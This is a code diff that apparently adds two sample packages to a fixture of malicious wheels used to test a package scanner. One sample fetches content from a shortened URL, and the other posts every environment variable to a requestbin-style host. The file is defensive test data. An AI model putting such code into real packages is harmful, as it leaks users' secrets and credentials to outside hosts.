@@ -774,6 +774,26 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             "startup", "0.1", {"sitecustomize.py": "import startup\n", "startup/__init__.py": ""}
         ),
     ),
+    "shady-endpoint": (
+        "linky-0.1-py3-none-any.whl",
+        wheel(
+            "linky",
+            "0.1",
+            {
+                "linky/__init__.py": "import requests\n\n\ndef update():\n    return requests.get('https://bit.ly/example-invalid').content\n"
+            },
+        ),
+    ),
+    "exfiltration:shady-host-when-called": (
+        "tellme-0.1-py3-none-any.whl",
+        wheel(
+            "tellme",
+            "0.1",
+            {
+                "tellme/__init__.py": "import os, requests\n\n\ndef report():\n    requests.post('https://example.requestbin.net/r', json=dict(os.environ))\n"
+            },
+        ),
+    ),
     "script-dropper": (
         "setupkit-0.1-py3-none-any.whl",
         wheel(
